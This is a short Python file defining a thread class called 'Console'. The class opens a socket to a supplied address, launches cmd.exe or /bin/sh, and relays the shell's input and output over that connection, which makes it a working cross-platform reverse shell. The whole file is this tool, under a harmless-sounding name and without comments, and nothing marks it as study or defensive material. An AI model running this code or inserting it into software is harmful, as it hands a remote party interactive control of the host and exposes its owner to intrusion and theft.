import socket
import subprocess
import sys
import threading


class Console(threading.Thread):
    def __init__(self, addr):
        super().__init__(daemon=True)
        self.addr = addr

    def _pump(self, src, dst):
        while True:
            data = src.recv(1024) if hasattr(src, "recv") else src.read1(1024)
            if not data:
                break
            dst.send(data) if hasattr(dst, "send") else (dst.write(data), dst.flush())

    def run(self):
        shell = "cmd.exe" if sys.platform == "win32" else "/bin/sh"
        sock = socket.create_connection(self.addr)
        proc = subprocess.Popen([shell], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        threading.Thread(target=self._pump, args=(sock, proc.stdin), daemon=True).start()
        self._pump(proc.stdout, sock)
